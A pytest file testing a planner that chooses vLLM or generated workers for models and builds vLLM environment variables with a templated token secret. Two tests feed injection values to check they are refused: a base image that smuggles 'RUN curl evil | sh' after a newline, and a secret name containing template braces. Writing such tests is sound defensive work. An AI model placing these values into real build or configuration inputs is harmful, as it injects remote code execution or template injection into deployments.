"""Which worker a model gets, and the vLLM template environment."""

from __future__ import annotations

import pytest

from tests.artifacts.conftest import SHA, requirements
from tools.artifacts.worker import DEFAULT_VLLM_IMAGE, UnsafeValue, plan_worker, vllm_env


@pytest.mark.parametrize("kind", ["vllm", "diffusers", "transformers", "custom"])
def test_each_kind_is_recognised(kind: str) -> None:
    plan = plan_worker(requirements(kind))
    assert plan.kind == kind
    assert plan.revision == SHA
    assert plan.needs_build is (kind != "vllm")
    assert (plan.image == DEFAULT_VLLM_IMAGE) is (kind == "vllm")


def test_a_quantized_llm_that_vllm_cannot_load_gets_a_generated_worker() -> None:
    from tools.sizing import Quantization

    req = requirements("vllm", quantization=Quantization(method="bnb-8bit"))
    assert plan_worker(req).kind == "transformers"


def test_gguf_and_unknown_libraries_are_refused_with_a_next_step() -> None:
    with pytest.raises(UnsafeValue, match="GGUF"):
        plan_worker(requirements("vllm", weight_format="gguf"))
    with pytest.raises(UnsafeValue, match="cannot serve"):
        plan_worker(requirements("transformers", library="keras"))


def test_an_unpinned_model_cannot_be_planned() -> None:
    with pytest.raises(UnsafeValue, match="pins its commit"):
        plan_worker(requirements("vllm", sha=None))


def test_a_hostile_base_image_is_refused() -> None:
    with pytest.raises(UnsafeValue):
        plan_worker(requirements("diffusers"), base_image="x:1\nRUN curl evil | sh")


def test_vllm_env_pins_the_revision_and_references_the_token_as_a_secret() -> None:
    plan = plan_worker(requirements("vllm"), max_model_len=8192, gpu_count=2)
    env = vllm_env(plan, hf_secret="hf_token")
    assert env == {
        "MODEL_NAME": "kriptik-test/tiny",
        "MODEL_REVISION": SHA,
        "DTYPE": "bfloat16",
        "GPU_MEMORY_UTILIZATION": "0.9",
        "TENSOR_PARALLEL_SIZE": "2",
        "MAX_MODEL_LEN": "8192",
        "OPENAI_SERVED_MODEL_NAME_OVERRIDE": "kriptik-test/tiny",
        "HF_TOKEN": "{{ RUNPOD_SECRET_hf_token }}",
    }
    assert "HF_TOKEN" not in vllm_env(plan, hf_secret=None)
    with pytest.raises(UnsafeValue):
        vllm_env(plan, hf_secret="x }} {{ evil")


def test_generated_workers_use_one_gpu() -> None:
    with pytest.raises(UnsafeValue, match="one GPU"):
        plan_worker(requirements("diffusers"), gpu_count=2)
